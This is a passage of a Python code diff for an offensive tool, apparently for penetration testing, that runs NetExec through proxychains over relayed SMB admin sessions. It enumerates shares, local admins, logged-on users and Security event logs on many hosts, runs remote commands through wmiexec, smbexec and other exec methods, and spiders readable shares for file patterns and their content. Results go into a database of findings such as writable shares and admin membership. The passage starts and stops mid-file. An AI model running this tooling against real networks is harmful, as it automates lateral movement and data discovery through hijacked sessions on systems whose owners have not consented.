+    "Spider filesystem for pattern": ("spider_matches", ("share", "path", "size", "modified"), parse_spider_matches),
+}
+
+# Tables that accumulate across runs instead of being replaced per host, with the columns identifying a row
+MERGED_TABLES = {"spider_matches": ("share", "path")}
+
+# Class to keep parsed findings in an indexed SQLite store for cross-host queries
+class FindingsStore:
+    def __init__(self, path):
+        self._connection = sqlite3.connect(path, check_same_thread=False)
+        self._lock = threading.Lock()
+        with self._lock, self._connection:
+            for table, columns, _ in ACTION_PARSERS.values():
+                self._connection.execute(f"CREATE TABLE IF NOT EXISTS {table} (ip TEXT NOT NULL, {', '.join(f'{column} TEXT' for column in columns)}, seen_at REAL)")
+                self._connection.execute(f"CREATE INDEX IF NOT EXISTS {table}_ip ON {table} (ip)")
+                self._connection.execute(f"CREATE INDEX IF NOT EXISTS {table}_{columns[0]} ON {table} ({columns[0]} COLLATE NOCASE)")
+                if table in MERGED_TABLES:
+                    self._connection.execute(f"CREATE UNIQUE INDEX IF NOT EXISTS {table}_key ON {table} (ip, {', '.join(MERGED_TABLES[table])})")
+
+    # Replace (or, for merged tables, update) a host's findings for an action with those parsed from its raw output
+    def ingest(self, action_name, ip, lines, action_args=None):
+        if action_name not in ACTION_PARSERS:
+            return 0
+        table, columns, parser = ACTION_PARSERS[action_name]
+        rows = [(ip, *row, time.time()) for row in parser(lines)]
+        if isinstance(action_args, dict) and action_args.get("max_size") and "size" in columns:
+            size = columns.index("size") + 1
+            rows = [row for row in rows if row[size] <= action_args["max_size"] * 1024 * 1024]  # max_size is in MB
+        with self._lock, self._connection:
+            if table in MERGED_TABLES:
+                self._connection.executemany(f"INSERT OR REPLACE INTO {table} (ip, {', '.join(columns)}, seen_at) VALUES ({', '.join('?' * (len(columns) + 2))})", rows)
+            else:
+                self._connection.execute(f"DELETE FROM {table} WHERE ip = ?", (ip,))
+                self._connection.executemany(f"INSERT INTO {table} (ip, {', '.join(columns)}, seen_at) VALUES ({', '.join('?' * (len(columns) + 2))})", rows)
+        return len(rows)
+
+    # Non-default shares of a host that "List shares" found readable
+    def readable_shares(self, ip):
+        rows = self.query("SELECT share FROM shares WHERE ip = ? AND is_default = '0' AND permissions LIKE '%READ%' ORDER BY share", (ip,))
+        return [share for (share,) in rows]
+
+    def query(self, sql, parameters=()):
+        with self._lock:
+            return self._connection.execute(sql, parameters).fetchall()
+
+    def close(self):
+        self._connection.close()
+
+# Queries answered by --query: (description, SQL, whether a search term is required)
+FINDINGS_QUERIES = {
+    "writable-shares": ("Non-default shares with write access", "SELECT ip, share, permissions, remark FROM shares WHERE is_default = '0' AND permissions LIKE '%WRITE%' AND share LIKE ? ORDER BY ip, share", False),
+    "shares": ("Readable shares", "SELECT ip, share, permissions, remark FROM shares WHERE permissions LIKE '%READ%' AND share LIKE ? ORDER BY ip, share", False),
+    "logged-on": ("Hosts where the user is logged on", "SELECT ip, user FROM sessions WHERE user LIKE ? ORDER BY user, ip", True),
+    "local-admin": ("Hosts where the account is a local admin", "SELECT ip, member FROM local_admins WHERE member LIKE ? ORDER BY member, ip", True),
+    "local-user": ("Hosts with the local user", "SELECT ip, user FROM local_users WHERE user LIKE ? ORDER BY user, ip", True),
+    "spider": ("Spidered files", "SELECT ip, share, path, size, modified FROM spider_matches WHERE path LIKE ? ORDER BY ip, share, path", False),
+}
+
+# Function to answer a --query against the findings store and print the matching rows
+def run_findings_query(findings, kind, term=None):
+    description, sql, needs_term = FINDINGS_QUERIES[kind]
+    if needs_term and not term:
+        print(f"--query {kind} needs a search term.")
+        return 1
+    rows = findings.query(sql, (f"%{term}%" if term else '%',))
+    print(f"\033[1m{description}{f' matching {term!r}' if term else ''}: {len(rows)}\033[0m")
+    for row in rows:
+        print("  ".join(f"{value:<20}" for value in row).rstrip())
+    return 0
+
+# Quick enumeration actions that can run against many targets in a single nxc invocation
+BATCHABLE_ACTIONS = {"List local users", "Logged on users", "List shares", "Logical drives"}
+
+# Action walking each readable share of a host with nxc --spider, one share per command
+SPIDER_ACTION = "Spider filesystem for pattern"
+
+# nxc prefixes every per-target line with "<PROTOCOL> <IP> <PORT> <HOSTNAME>"
+NXC_HOST_PATTERN = re.compile(r'^\S+\s+(\d{1,3}(?:\.\d{1,3}){3})\s')
+
+# Function to build the nxc command line for an action (ip may be a list of targets)
+def build_command(ip, domain_user, action_name, exec_method=None, action_args=None, proxychains_conf=None):
     domain, user = domain_user.split('/')
-    base_command = f"proxychains4 -q nxc smb {ip} -d {domain} -u {user} -p ''"
+    targets = " ".join(ip) if isinstance(ip, (list, tuple)) else ip
+    proxychains = f"proxychains4 -q -f {proxychains_conf}" if proxychains_conf else "proxychains4 -q"
+    base_command = f"{proxychains} nxc smb {targets} -d {domain} -u {user} -p ''"
     if exec_method:
         base_command += f" --exec-method {exec_method}"
     
@@ -148,53 +907,876 @@ def execute_command(ip, domain_user, action_name, output_file, cache_file, avail
     elif action_name == "Logical drives":
         command = f"{base_command} --disks"
     elif action_name == "List security events":
-        event_count = input("Default event count is 20. Press Enter to use the default or enter a number to change: ").strip()
-        if not event_count.isdigit():
-            event_count = "20"
-        command = f"{base_command} -X 'Get-WinEvent -LogName Security -MaxEvents {event_count} | Format-Table TimeCreated, Id, LevelDisplayName, Message -AutoSize'"
+        command = f"{base_command} -X 'Get-WinEvent -LogName Security -MaxEvents {action_args or 20} | Format-Table TimeCreated, Id, LevelDisplayName, Message -AutoSize'"
+    elif action_name == SPIDER_ACTION:
+        patterns = " ".join(shlex.quote(pattern) for pattern in action_args["pattern"].split())
+        command = f"{base_command} --spider {shlex.quote(action_args['share'])} --pattern {patterns} --depth {action_args['depth']}"
+        if action_args.get("content"):
+            command += " --content"
     else:
         command = base_command
+    return command
+
+# nxc --exec-method values accepted by --exec_method and playbooks
+EXEC_METHODS = ["wmiexec", "smbexec", "mmcexec", "atexec"]
+
+# Default per-action timeouts in seconds; anything not listed uses DEFAULT_TIMEOUT
+ACTION_TIMEOUTS = {
+    "List local users": 90,
+    "List local admins": 120,
+    "Logged on users": 90,
+    "List shares": 60,
+    "Logical drives": 60,
+    "List security events": 300,
+    "Spider filesystem for pattern": 1800,
+}
+DEFAULT_TIMEOUT = 120
+
+# Output that means the relayed session or the SOCKS hop hiccupped, worth another try
+# (only checked on nxc error lines and untagged proxychains/Python output, see is_transient_line)
+TRANSIENT_PATTERN = re.compile(r'STATUS_PIPE_NOT_AVAILABLE|STATUS_PIPE_BROKEN|Connection refused|Connection reset by peer|Errno 10[34]|Errno 111|NetBIOSTimeout|[Pp]roxychains.*(?:timeout|denied)|SOCKS.*(?:[Ee]rror|[Ff]ail)')
+
+# Function to tell whether an output line reports a transient SOCKS/SMB error; remote content
+# (event messages, file paths, share remarks) comes on tagged non-error lines and never counts
+def is_transient_line(line):
+    plain = ANSI_PATTERN.sub('', line).rstrip()
+    match = NXC_MESSAGE_PATTERN.match(plain)
+    if match and not match.group(2).startswith('[-]'):
+        return False
+    return bool(TRANSIENT_PATTERN.search(plain))
+
+# Function to scale a per-host timeout to a batch: nxc works targets in parallel, so each extra target adds a quarter
+def batch_timeout(timeout, count):
+    if not timeout:
+        return timeout
+    return timeout * (1 + 0.25 * (count - 1))
+
+# Function to parse --timeout values: "SECONDS" for every action or "ACTION=SECONDS" for one
+def parse_timeouts(values):
+    overrides = {}
+    for value in values or []:
+        action_name, _, seconds = value.rpartition('=')
+        overrides[action_name.strip() or None] = float(seconds)
+    return overrides
+
+# Function to get the timeout for an action, honouring CLI overrides (0 means no timeout)
+def action_timeout(action_name, overrides):
+    if action_name in overrides:
+        return overrides[action_name]
+    if None in overrides:
+        return overrides[None]
+    return ACTION_TIMEOUTS.get(action_name, DEFAULT_TIMEOUT)
+
+# Commands currently running, so Ctrl-C can cancel them without killing the tool
+active_runs = set()
+active_runs_lock = threading.Lock()
+
+# Class to run one command in its own process group with a timeout and cancellation
+class CommandRun:
+    def __init__(self, command, timeout=None):
+        self.command = command
+        self.timeout = timeout
+        self.process = None
+        self.returncode = None
+        self.status = None
+
+    # Kill the whole process group (proxychains, nxc and anything they spawned)
+    def kill(self, status):
+        if self.process.poll() is not None:
+            return
+        if self.status is None:
+            self.status = status
+        try:
+            os.killpg(self.process.pid, signal.SIGKILL)
+        except (ProcessLookupError, PermissionError):
+            pass
+
+    # Run the command, passing each output line to on_line; returns ok/failed/timeout/cancelled
+    def run(self, on_line):
+        self.process = subprocess.Popen(self.command, shell=True, text=True, errors='replace', stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True)
+        with active_runs_lock:
+            active_runs.add(self)
+        timer = None
+        if self.timeout:
+            timer = threading.Timer(self.timeout, self.kill, ('timeout',))
+            timer.daemon = True
+            timer.start()
+        try:
+            with self.process.stdout:
+                for line in self.process.stdout:
+                    on_line(line)
+            self.returncode = self.process.wait()
+        except KeyboardInterrupt:
+            # Ctrl-C only cancels this host
+            self.kill('cancelled')
+            self.returncode = self.process.wait()
+        finally:
+            if timer:
+                timer.cancel()
+            with active_runs_lock:
+                active_runs.discard(self)
+            if self.process.poll() is None:
+                self.kill('cancelled')
+                self.process.wait()
+
+        if self.status is None:
+            self.status = 'ok' if self.returncode == 0 else 'failed'
+        return self.status
+
+# Function to cancel every command currently running (used on Ctrl-C during a fan-out)
+def cancel_active_runs():
+    with active_runs_lock:
+        runs = list(active_runs)
+    for run in runs:
+        run.kill('cancelled')
+
+# Function to wait before the next attempt, doubling the delay each time
+def wait_before_retry(attempt, retry_backoff):
+    time.sleep(retry_backoff * (2 ** attempt))
+
+# Class writing finished output blocks to disk from a single thread, so hosts never interleave and workers never wait on I/O
+class OutputSink(threading.Thread):
+    LAYOUTS = ("single", "host", "host-action")
+
+    def __init__(self, path, layout="single", color=False, compress=None, max_bytes=0, backups=5):
+        super().__init__(daemon=True)
+        self.path = path
+        self.layout = layout
+        self.color = color
+        self.max_bytes = max_bytes
+        self.backups = backups
+        self.compress = compress
+        self.suffix = {"gzip": ".gz", "zstd": ".zst"}.get(compress, "")
+        if compress == "zstd":
+            try:
+                import zstandard
+            except ImportError:
+                raise ValueError("zstd compression needs the zstandard package (pip install zstandard); use gzip instead.")
+            self._zstd = zstandard.ZstdCompressor()
+        self.blocks = queue.Queue(maxsize=64)  # Bounded: workers wait rather than pile up spooled output
+        self._files = {}  # path -> (raw file, writer), most recently used last
+        self._warned = False
+
+    # Hand a host's spooled output to the writer; the sink closes the spool once written
+    def submit(self, ip, domain_user, action_name, spool):
+        self.blocks.put((ip, domain_user, action_name, time.strftime("%Y-%m-%d %H:%M:%S"), spool))
+
+    # File a block goes to for the configured layout, e.g. out/10.0.0.1/List_shares.log
+    def target(self, ip, action_name):
+        if self.layout == "single":
+            return self.path + self.suffix
+        if self.layout == "host":
+            return os.path.join(self.path, f"{ip}.log{self.suffix}")
+        action = re.sub(r'[^A-Za-z0-9.-]+', '_', action_name or "output").strip('_')
+        return os.path.join(self.path, ip, f"{action}.log{self.suffix}")
+
+    def _open(self, path):
+        if path in self._files:
+            self._files[path] = self._files.pop(path)
+            return self._files[path]
+        # Keep a bounded number of files open with the host layouts
+        if len(self._files) >= 32:
+            self._close(next(iter(self._files)))
+        directory = os.path.dirname(path)
+        if directory:
+            os.makedirs(directory, exist_ok=True)
+        raw = open(path, 'ab')
+        if self.compress == "gzip":
+            writer = gzip.GzipFile(fileobj=raw, mode='ab')
+        elif self.compress == "zstd":
+            writer = self._zstd.stream_writer(raw, closefd=False)
+        else:
+            writer = raw
+        self._files[path] = (raw, writer)
+        return raw, writer
+
+    def _close(self, path):
+        raw, writer = self._files.pop(path)
+        if writer is not raw:
+            writer.close()
+        raw.close()
+
+    # Move path to path.1 (and so on), dropping the oldest, once it reaches the size limit
+    def _rotate(self, path):
+        self._close(path)
+        base = path[:len(path) - len(self.suffix)]
+        rotated = [path] + [f"{base}.{n}{self.suffix}" for n in range(1, self.backups + 1)]
+        if os.path.exists(rotated[-1]):
+            os.remove(rotated[-1])
+        for newer, older in reversed(list(zip(rotated, rotated[1:]))):
+            if os.path.exists(newer):
+                os.replace(newer, older)
+
+    def _write(self, ip, domain_user, action_name, timestamp, spool):
+        path = self.target(ip, action_name)
+        raw, writer = self._open(path)
+        writer.write(f"\n[OUTPUT FOR {ip} - {domain_user}] {action_name or ''} @ {timestamp}\n".encode())
+        spool.seek(0)
+        for line in spool:
+            # Color codes are kept or stripped here, so the same spool serves both renderings
+            writer.write((line if self.color else ANSI_PATTERN.sub('', line)).encode('utf-8', errors='replace'))
+        writer.write(b"\n")
+        if self.max_bytes and raw.tell() >= self.max_bytes:
+            self._rotate(path)
+
+    def _flush(self):
+        for raw, writer in self._files.values():
+            writer.flush()
+            if writer is not raw:
+                raw.flush()
 
-    print(f"\033[1m[ EXECUTING ] {command}\033[0m")
+    def run(self):
+        while True:
+            block = self.blocks.get()
+            if block is None:
+                break
+            try:
+                self._write(*block)
+            except OSError as e:
+                if not self._warned:
+                    self._warned = True
+                    with output_lock:
+                        print(f"\033[1;31mFailed to write output to {self.path}: {e}\033[0m")
+            finally:
+                block[-1].close()
+            # Flush once the queue is drained rather than after every block
+            if self.blocks.empty():
+                self._flush()
+        for path in list(self._files):
+            self._close(path)
 
+    # Write everything still queued and close the files
+    def close(self):
+        if self.is_alive():
+            self.blocks.put(None)
+            self.join()
+
+# Class to collect one host's output, streaming it live or spooling it so hosts never interleave
+class HostOutput:
+    def __init__(self, ip, domain_user, output_sink=None, live=True, action_name=None):
+        self.ip = ip
+        self.domain_user = domain_user
+        self.action_name = action_name
+        self.output_sink = output_sink
+        self.live = live and not output_sink
+        self.spool = None if self.live else tempfile.SpooledTemporaryFile(max_size=1024 * 1024, mode='w+')
+
+    def write(self, line):
+        if self.live:
+            with output_lock:
+                sys.stdout.write(line)
+                sys.stdout.flush()
+        else:
+            self.spool.write(line)
+
+    # Flush a spooled result as one block to the output sink or the screen
+    def close(self):
+        if self.live:
+            print()
+            return
+        if self.output_sink:
+            self.output_sink.submit(self.ip, self.domain_user, self.action_name, self.spool)
+            return
+        self.spool.seek(0)
+        with output_lock:
+            shutil.copyfileobj(self.spool, sys.stdout)
+            print()
+        self.spool.close()
+
+    # Drop a spooled result without writing it (e.g. an attempt that will be retried)
+    def discard(self):
+        if self.spool:
+            self.spool.close()
+
+# Function to build a line handler that greps and colors each line as it arrives
+def make_emitter(host_output, grep=None, grep_before=0, grep_after=0):
+    line_filter = GrepFilter(grep, grep_before, grep_after) if grep else None
+
+    def emit(line):
+        for shown in (line_filter.feed(line) if line_filter else [line]):
+            host_output.write(apply_coloring(shown))
+    return emit
+
+# Class tracking one attempt on one host: its output block, grep state and pending stored result
+class HostRun:
+    def __init__(self, ip, domain_user, action_name, command, output_sink, exec_method=None, grep=None, grep_before=0, grep_after=0, result_store=None, live=True, findings=None, action_args=None):
+        self.ip = ip
+        self.action_name = action_name
+        self.action_args = action_args
+        self.output = HostOutput(ip, domain_user, output_sink, live, action_name)
+        self.emit = make_emitter(self.output, grep, grep_before, grep_after)
+        self.result_store = result_store
+        self.findings = findings
+        self.pending = result_store.begin(action_name, ip, domain_user, exec_method, command) if result_store else None
+        self.transient = False
+        self.authenticated = False  # nxc printed a [+] login line for this host
+        self.produced = False  # nxc printed something for this host after logging in
+        self.ended = False  # In a batch, nxc moved on to another target after this host's action output
+        self.seen = False
+        self.started = time.monotonic()
+        self.first_output = None
+        self.output_bytes = 0
+
+    def feed(self, line):
+        if self.first_output is None:
+            self.first_output = time.monotonic() - self.started  # proxychains connect plus nxc startup
+        self.output_bytes += len(line)
+        if self.pending:
+            self.pending[1].write(line)
+        tagged = NXC_MESSAGE_PATTERN.match(ANSI_PATTERN.sub('', line).rstrip())
+        if is_transient_line(line):
+            self.transient = True
+        elif tagged and self.authenticated:
+            self.produced = True
+        elif tagged and '[+]' in line:
+            self.authenticated = True
+        self.emit(line)
+
+    # Publish or drop the output and stored result of this attempt
+    def finish(self, succeeded, keep_output=True):
+        if keep_output:
+            self.output.close()
+        else:
+            self.output.discard()
+        if self.pending:
+            if succeeded:
+                self.result_store.commit(self.pending)
+                # Parse the stored raw output rather than holding it in memory
+                if self.findings:
+                    with open(self.pending[0]["file"], 'r') as file:
+                        self.findings.ingest(self.action_name, self.ip, file, self.action_args)
+            else:
+                self.result_store.discard(self.pending)
+
+# Function to report the final status of hosts that did not succeed
+def report_failure(label, command, status, timeout=None, returncode=None):
+    with output_lock:
+        if status == 'timeout':
+            print(f"Command timed out after {timeout:g}s on {label}: {command}")
+        elif status == 'cancelled':
+            print(f"Cancelled {label}.")
+        elif status == 'unreachable':
+            print(f"Relay session unreachable on {label}: {command}")
+        else:
+            print(f"Command failed on {label}: {command!r} returned exit status {returncode}.")
+
+# Function to check a relay session with a bare nxc authentication through proxychains
+def probe_session(ip, domain_user, timeout=20, proxychains_conf=None):
+    authenticated = []
+
+    def on_line(line):
+        if '[+]' in line:
+            authenticated.append(line)
+    status = CommandRun(build_command(ip, domain_user, None, proxychains_conf=proxychains_conf), timeout).run(on_line)
+    return status == 'ok' and bool(authenticated)
+
+# Function to handle the execution of commands; returns ok, cached, failed, unreachable, timeout or cancelled
+def execute_command(ip, domain_user, action_name, output_sink, exec_method=None, grep=None, grep_before=0, grep_after=0, action_args=None, result_store=None, refresh=False, live=True, timeout=None, retries=0, retry_backoff=2.0, findings=None, metrics=None, proxychains_conf=None):
+    command = build_command(ip, domain_user, action_name, exec_method, action_args, proxychains_conf)
+    started = time.monotonic()
+
+    def record(status, host_run=None, attempt=0):
+        if metrics:
+            metrics.record('command', action=action_name, ip=ip, user=domain_user, exec_method=exec_method, status=status, duration=round(time.monotonic() - started, 4),
+                           first_output=round(host_run.first_output, 4) if host_run and host_run.first_output is not None else None,
+                           bytes=host_run.output_bytes if host_run else 0, retries=attempt, batch_size=1)
+
+    # Serve a stored result when one is fresh enough, without touching the network
+    stored = None
+    if result_store and not refresh:
+        stored = result_store.lookup(action_name, ip, domain_user, exec_method, command)
+    if stored:
+        with output_lock:
+            print(f"\033[1m[ CACHED ] {command}\033[0m")
+        host_output = HostOutput(ip, domain_user, output_sink, live, action_name)
+        emit = make_emitter(host_output, grep, grep_before, grep_after)
+        try:
+            with open(stored["file"], 'r') as file:
+                for line in file:
+                    emit(line)
+        finally:
+            host_output.close()
+        record('cached')
+        return 'cached'
+
+    for attempt in range(retries + 1):
+        with output_lock:
+            print(f"\033[1m[ EXECUTING ] {command}\033[0m")
+        host_run = HostRun(ip, domain_user, action_name, command, output_sink, exec_method, grep, grep_before, grep_after, result_store, live, findings, action_args)
+        run = CommandRun(command, timeout)
+        try:
+            status = run.run(host_run.feed)
+        except BaseException:
+            host_run.finish(False)
+            raise
+
+        # Transient SOCKS/SMB errors are retried with backoff; timeouts and cancellations are final,
+        # and a clean exit that got as far as logging in is never downgraded. A clean exit that never
+        # logged in is what nxc does over a dead SOCKS session, so it is unreachable too
+        if (host_run.transient and status == 'failed') or (status == 'ok' and not host_run.authenticated):
+            status = run.status = 'unreachable'
+            if attempt < retries:
+                host_run.finish(False, keep_output=False)
+                with output_lock:
+                    print(f"\033[1;33m[ RETRY {attempt + 1}/{retries} ]\033[0m transient error on {ip}, retrying in {retry_backoff * (2 ** attempt):g}s")
+                wait_before_retry(attempt, retry_backoff)
+                continue
+
+        host_run.finish(status == 'ok')
+        record(status, host_run, attempt)
+        if status != 'ok':
+            report_failure(ip, command, status, timeout, run.returncode)
+        return status
+
+# Function to run one nxc invocation against several targets and split its output back per host
+def execute_batch(ips, domain_user, action_name, output_sink, exec_method=None, grep=None, grep_before=0, grep_after=0, result_store=None, timeout=None, retries=0, retry_backoff=2.0, findings=None, metrics=None, proxychains_conf=None):
+    results = {}
+    remaining = list(ips)
+    started = time.monotonic()
+    for attempt in range(retries + 1):
+        command = build_command(remaining, domain_user, action_name, exec_method, proxychains_conf=proxychains_conf)
+        # Store each host under its single-target command so later per-host runs reuse it
+        hosts = {ip: HostRun(ip, domain_user, action_name, build_command(ip, domain_user, action_name, exec_method, proxychains_conf=proxychains_conf), output_sink, exec_method, grep, grep_before, grep_after, result_store, live=False, findings=findings) for ip in remaining}
+
+        # Lines not tagged with a target (e.g. proxychains noise) belong to the last host seen;
+        # anything before the first tagged line is given to every host
+        preamble = []
+        current = [None]
+
+        def route(line):
+            match = NXC_HOST_PATTERN.match(line)
+            if match and match.group(1) in hosts:
+                if current[0] is not None and current[0] is not hosts[match.group(1)]:
+                    # nxc moved on: the previous host's action output (if any) is complete up to here
+                    current[0].ended = current[0].produced
+                current[0] = hosts[match.group(1)]
+                current[0].ended = False
+                if not current[0].seen:
+                    current[0].seen = True
+                    for early_line in preamble:
+                        current[0].feed(early_line)
+            if current[0] is None:
+                preamble.append(line)
+            else:
+                current[0].feed(line)
+
+        with output_lock:
+            print(f"\033[1m[ EXECUTING ] {command}\033[0m")
+        run = CommandRun(command, batch_timeout(timeout, len(remaining)))
+        try:
+            status = run.run(route)
+        except BaseException:
+            for host_run in hosts.values():
+                host_run.finish(False)
+            raise
+
+        retry_ips = []
+        for ip, host_run in hosts.items():
+            if not host_run.seen:
+                for early_line in preamble:
+                    host_run.feed(early_line)
+            if status in ('timeout', 'cancelled') and host_run.ended and not host_run.transient:
+                # nxc had finished this host's output before another target hung the batch (or Ctrl-C); keep it
+                host_status = 'ok'
+            elif status in ('timeout', 'cancelled'):
+                host_status = status
+            elif host_run.transient and not host_run.authenticated:
+                if attempt < retries:
+                    host_run.finish(False, keep_output=False)
+                    retry_ips.append(ip)
+                    continue
+                host_status = 'unreachable'
+            elif not host_run.authenticated:
+                host_status = 'unreachable'  # nxc never got as far as logging in to this target
+            else:
+                host_status = status
+            host_run.finish(host_status == 'ok')
+            results[ip] = host_status
+            if metrics:
+                metrics.record('command', action=action_name, ip=ip, user=domain_user, exec_method=exec_method, status=host_status, duration=round(time.monotonic() - started, 4),
+                               first_output=round(host_run.first_output, 4) if host_run.first_output is not None else None,
+                               bytes=host_run.output_bytes, retries=attempt, batch_size=len(remaining))
+
+        if not retry_ips:
+            break
+        with output_lock:
+            print(f"\033[1;33m[ RETRY {attempt + 1}/{retries} ]\033[0m transient error on {', '.join(retry_ips)}, retrying in {retry_backoff * (2 ** attempt):g}s")
+        wait_before_retry(attempt, retry_backoff)
+        remaining = retry_ips
+
+    for final_status in ('failed', 'unreachable', 'timeout', 'cancelled'):
+        failed = [ip for ip, host_status in results.items() if host_status == final_status]
+        if failed:
+            report_failure(', '.join(failed), build_command(failed, domain_user, action_name, exec_method, proxychains_conf=proxychains_conf), final_status, batch_timeout(timeout, len(ips)), run.returncode)
+    return results
+
+# Class to spread work across every admin session of a host, one command per session at a time
+class SessionScheduler:
+    def __init__(self, relays, liveness):
+        self.relays = relays
+        self.liveness = liveness
+        self._busy = set()
+        self._uses = defaultdict(int)
+        self._condition = threading.Condition()
+
+    # Admin users for a host, preferring sessions not known to be stale and used the least so far
+    def candidates(self, ip, exclude=()):
+        users = [user for user in self.relays.admin_users_by_ip.get(ip, ()) if user not in exclude]
+        return sorted(users, key=lambda user: (self.liveness.get(ip, user) is False, self._uses[(ip, user)]))
+
+    # Block until one of the host's usable sessions is free and claim it; None when none are left
+    def acquire(self, ip, exclude=()):
+        with self._condition:
+            while True:
+                users = [user for user in self.candidates(ip, exclude) if self.liveness.get(ip, user) is not False]
+                if not users:
+                    return None
+                for user in users:
+                    if (ip, user) not in self._busy:
+                        self._claim(ip, user)
+                        return user
+                self._condition.wait()
+
+    # Block until a specific session is free and claim it (used by batches, which pick users up front)
+    def acquire_session(self, ip, user):
+        with self._condition:
+            while (ip, user) in self._busy:
+                self._condition.wait()
+            self._claim(ip, user)
+
+    # How many commands a user's sessions have run so far, across every host
+    def user_uses(self, domain_user):
+        return sum(count for (ip, user), count in list(self._uses.items()) if user == domain_user)
+
+    def _claim(self, ip, user):
+        self._busy.add((ip, user))
+        self._uses[(ip, user)] += 1
+
+    def release(self, ip, user):
+        with self._condition:
+            self._busy.discard((ip, user))
+            self._condition.notify_all()
+
+# Class holding the state shared by the menu and the executor for one run
+class Engagement:
+    def __init__(self, args, relays, action_cache, result_store, liveness, findings=None, metrics=None, endpoints=(), output_sink=None):
+        self.args = args
+        self.metrics = metrics
+        self.output_sink = output_sink
+        self.endpoints = {endpoint.name: endpoint for endpoint in endpoints}
+        self.relays = relays
+        self.action_cache = action_cache
+        self.result_store = result_store
+        self.liveness = liveness
+        self.findings = findings
+        self.scheduler = SessionScheduler(relays, liveness)
+        self.spider_checkpoints = SpiderCheckpoints("spider")
+
+    # proxychains configuration for the ntlmrelayx instance holding a session (None for the system one)
+    def proxychains_conf(self, ip, domain_user):
+        endpoint = self.endpoints.get(self.relays.source(ip, domain_user))
+        return endpoint.proxychains_conf if endpoint else None
+
+# Function to run an action through one relay session and record the outcome in the cache
+def run_on_session(ip, admin_user, action_name, engagement, action_args=None, live=True):
+    args = engagement.args
+    proxychains_conf = engagement.proxychains_conf(ip, admin_user)
+    if not engagement.liveness.is_alive(ip, admin_user, args.probe, args.probe_timeout, proxychains_conf):
+        with output_lock:
+            print(f"Skipping {admin_user} on {ip}: relay session is stale.")
+        engagement.action_cache.record(action_name, ip, admin_user, 'stale')
+        return 'stale'
+
+    status = execute_command(ip, admin_user, action_name, engagement.output_sink, args.exec_method, args.grep, args.grep_before, args.grep_after, action_args, engagement.result_store, args.refresh, live,
+                             action_timeout(action_name, args.timeouts), args.retries, args.retry_backoff, engagement.findings, engagement.metrics, proxychains_conf)
+    if status == 'cached':
+        status = 'ok'  # Replayed from the result store: nothing touched the network, so liveness is unchanged
+    else:
+        engagement.liveness.observe(ip, admin_user, status)
+    engagement.action_cache.record(action_name, ip, admin_user, status)
+    return status
+
+# Function to find an admin user of a host whose result for the action is already stored
+def stored_result_user(ip, action_name, engagement, action_args=None):
+    args = engagement.args
+    if args.refresh:
+        return None
+    for admin_user in engagement.relays.admin_users_by_ip.get(ip, ()):
+        if engagement.result_store.lookup(action_name, ip, admin_user, args.exec_method, build_command(ip, admin_user, action_name, args.exec_method, action_args, engagement.proxychains_conf(ip, admin_user))):
+            return admin_user
+    return None
+
+# Function to run an action on a single host, failing over across its admin sessions
+def run_on_host(ip, action_name, engagement, action_args=None, live=True, exclude=()):
+    # A stored result needs no session at all
+    admin_user = stored_result_user(ip, action_name, engagement, action_args)
+    if admin_user:
+        return run_on_session(ip, admin_user, action_name, engagement, action_args, live)
+
+    scheduler = engagement.scheduler
+    tried = list(exclude)
+    status = None
+    while True:
+        admin_user = scheduler.acquire(ip, exclude=tried)
+        if admin_user is None:
+            break
+        if status is not None:
+            with output_lock:
+                print(f"\033[1;33m[ FAILOVER ]\033[0m {ip}: {tried[-1]} ended with '{status}', trying {admin_user}")
+        tried.append(admin_user)
+        try:
+            status = run_on_session(ip, admin_user, action_name, engagement, action_args, live)
+        finally:
+            scheduler.release(ip, admin_user)
+        if status in ('ok', 'cancelled'):
+            return status
+
+    if status is None:
+        with output_lock:
+            print(f"No usable admin session found for {ip}. Skipping.")
+    return status
+
+# Function to run a batched action on several hosts sharing an admin user and record each in the cache
+def run_batch_on_hosts(ips, admin_user, action_name, engagement, action_args=None, live=True):
+    args = engagement.args
+    scheduler = engagement.scheduler
+    # Claim every session in a fixed order so overlapping batches can't deadlock
+    for ip in sorted(ips):
+        scheduler.acquire_session(ip, admin_user)
     try:
-        result = subprocess.run(command, shell=True, text=True, check=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-        output = result.stdout + result.stderr
-
-        # Apply grep if specified
-        if grep:
-            grep_command = f"grep \"{grep}\""
-            if grep_before > 0:
-                grep_command += f" -B {grep_before}"
-            if grep_after > 0:
-                grep_command += f" -A {grep_after}"
-            
-            output = subprocess.run(f"echo \"{output}\" | {grep_command}", shell=True, capture_output=True, text=True).stdout
+        results = execute_batch(ips, admin_user, action_name, engagement.output_sink, args.exec_method, args.grep, args.grep_before, args.grep_after, engagement.result_store,
+                                action_timeout(action_name, args.timeouts), args.retries, args.retry_backoff, engagement.findings, engagement.metrics, engagement.proxychains_conf(ips[0], admin_user))
+    finally:
+        for ip in ips:
+            scheduler.release(ip, admin_user)
+    for ip, status in results.items():
+        engagement.liveness.observe(ip, admin_user, status)
+        engagement.action_cache.record(action_name, ip, admin_user, status)
+
+    # Hosts the batch couldn't handle fail over to their other admin sessions one at a time
+    for ip, status in results.items():
+        if status not in ('ok', 'cancelled') and len(engagement.relays.admin_users_by_ip.get(ip, ())) > 1:
+            results[ip] = run_on_host(ip, action_name, engagement, action_args, live=False, exclude=(admin_user,))
+    return results
+
+# Class to remember, per host, which shares a spider run has finished so an interrupted run can resume
+class SpiderCheckpoints:
+    def __init__(self, directory):
+        self.directory = directory
+        self._lock = threading.Lock()
+
+    # Spider runs with other patterns or limits are checkpointed separately
+    @staticmethod
+    def key(spider):
+        return json.dumps([spider["pattern"], spider["depth"], bool(spider.get("content"))])
+
+    def _path(self, ip):
+        return os.path.join(self.directory, f"{ip}.json")
+
+    def _load(self, ip):
+        try:
+            with open(self._path(ip), 'r') as file:
+                return json.load(file)
+        except (OSError, ValueError):
+            return {}
 
-        # Apply coloring
-        output = apply_coloring(output)
+    def _save(self, ip, checkpoint):
+        os.makedirs(self.directory, exist_ok=True)
+        # Write then rename so an interrupted run never leaves a half-written checkpoint
+        handle, temporary = tempfile.mkstemp(dir=self.directory, suffix=".part")
+        with os.fdopen(handle, 'w') as file:
+            json.dump(checkpoint, file)
+        os.replace(temporary, self._path(ip))
 
-        if output_file:
-            with open(output_file, 'a') as f:
-                f.write(f"\n[OUTPUT FOR {ip} - {domain_user}]\n{output}\n")
+    def done(self, ip, spider):
+        with self._lock:
+            return set(self._load(ip).get(self.key(spider), ()))
+
+    def mark(self, ip, spider, share):
+        with self._lock:
